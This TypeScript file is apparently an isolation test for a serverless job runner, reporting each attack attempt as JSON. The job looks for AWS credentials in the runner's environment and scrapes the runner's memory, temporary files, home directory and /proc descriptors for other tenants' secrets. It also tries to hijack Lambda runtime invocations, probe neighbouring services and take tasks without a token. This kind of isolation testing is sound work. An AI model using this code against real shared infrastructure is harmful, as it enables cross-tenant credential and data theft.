/** A job that attacks the stack it runs on: each try is one line of JSON. */
import { readdirSync, readlinkSync } from "node:fs";
import { homedir } from "node:os";
import { awsAttacks } from "./attack-aws.ts";
import { portsBeside, servedBeside } from "./neighbours.ts";
import { findRunner, searchMemory } from "./runner-process.ts";
import type { Targets } from "./targets.ts";

const context = JSON.parse(process.env.ELASTIC_JOB_SHARDING_CONTEXT ?? "{}");
const targets: Targets = JSON.parse(context.jobParameter);
const tell = (kind: string, tried: string, got: unknown) => console.log(JSON.stringify({ kind, tried, got }));

async function attempt(kind: string, tries: Readonly<Record<string, () => unknown>>): Promise<void> {
  for (const [tried, act] of Object.entries(tries)) {
    const got = await Promise.resolve()
      .then(act)
      .catch((error: Error) => error.name);
    tell(kind, tried, typeof got === "object" && got !== null && "$metadata" in got ? "done" : got);
  }
}

const runner = findRunner();
const { environment } = runner;
const api = `http://${environment.AWS_LAMBDA_RUNTIME_API}/2018-06-01/runtime/invocation`;
const statusOf = async (url: string, init?: RequestInit) => (await fetch(url, init)).status;
/** Paths below a directory. */
const below = (directory: string) => readdirSync(directory, { recursive: true }).map(String);
const links = (pid: number) => readdirSync(`/proc/${pid}/fd`).map((fd) => readlinkSync(`/proc/${pid}/fd/${fd}`));

await attempt("looted", {
  "credentials in the runner's environment": () => environment.AWS_ACCESS_KEY_ID !== undefined,
  "its own task in the runner's memory": () =>
    searchMemory(runner.pid, /"taskId":"[^"]{10,300}/g).some((text) => text.includes(context.taskId)),
  "victims in the runner's memory": () =>
    searchMemory(runner.pid, new RegExp(`${targets.victim}@-@[^"]{1,200}@-@[\\w-]{43}`, "g")),
  "victims in the sandbox's files": () =>
    below(environment.TMPDIR ?? "/tmp").filter((file) => file.includes("victim-only")),
  "victims at home": () => below(homedir()).filter((file) => file.includes("victim-only")),
  "victims behind the runner's descriptors": () => links(runner.pid).filter((file) => file.includes("victim-only")),
});
await attempt("loopback", {
  "take the next invocation": () => statusOf(`${api}/next`),
  "answer another invocation": () =>
    statusOf(`${api}/00000000-0000-4000-8000-000000000000/response`, { method: "POST", body: "{}" }),
  "other sandboxes and services that listen": () => portsBeside(runner.pid).length > 3,
  "requests that they serve": () => servedBeside(runner.pid),
  "take a task without the token": () => statusOf(`${process.env.ELASTIC_JOB_RUNTIME_API}/task/next`),
});
const { refused, ignored } = awsAttacks(environment, targets, context.taskId);
await attempt("refused", refused);
await attempt("ignored", ignored);
